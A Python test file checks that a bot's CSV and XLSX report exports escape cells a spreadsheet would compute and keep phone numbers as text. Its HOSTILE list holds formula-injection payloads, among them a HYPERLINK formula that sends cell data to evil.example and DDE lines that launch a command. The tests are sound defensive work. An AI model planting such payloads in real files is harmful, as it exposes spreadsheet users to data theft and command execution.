"""Exports open in a spreadsheet as data: no formulas run, phones stay text (issue 14.11)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bot.staff.reports import csv_bytes, xlsx_bytes

HOSTILE = [
    '=1+HYPERLINK("http://evil.example/?x="&A1;"Нажмите")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+77011234567",
    "-",
]
HEADER = ["ФИО", "Телефон", "Людей", "Примечание"]


def _csv(rows: list[list[object]]) -> list[list[str]]:
    data = csv_bytes(HEADER, rows).decode("utf-8")
    assert data.startswith("\ufeff")
    return list(csv.reader(io.StringIO(data.lstrip("\ufeff")), delimiter=";"))


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cells_that_a_spreadsheet_would_compute_are_text(value: str) -> None:
    rows = _csv([[value, "+7 701 123 45 67", 3, value]])
    assert rows[1] == ["'" + value, "'+7 701 123 45 67", "3", "'" + value]


def test_csv_leaves_ordinary_values_alone() -> None:
    rows = _csv([["Серикова Айгерим", "", 2, "Нужен детский корм; вода = жизнь"]])
    assert rows[1] == ["Серикова Айгерим", "", "2", "Нужен детский корм; вода = жизнь"]


def test_xlsx_writes_strings_as_strings_and_numbers_as_numbers() -> None:
    # The last column starts with a number and holds text further down.
    rows: list[list[object]] = [["Citizen", "+77011234567", 1, 5]]
    rows += [[v, "+77011234567", 2, v] for v in HOSTILE]
    book = load_workbook(io.BytesIO(xlsx_bytes("Список", HEADER, rows)))
    sheet = book.active
    assert sheet is not None
    for r, row in enumerate(rows, start=2):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(r, c)
            # XLSX escapes a carriage return as _x000D_; openpyxl leaves it escaped.
            got = (
                cell.value.replace("_x000D_", "\r") if isinstance(cell.value, str) else cell.value
            )
            assert got == value, (r, c)
            assert cell.data_type == ("n" if isinstance(value, int) else "s"), (r, c)
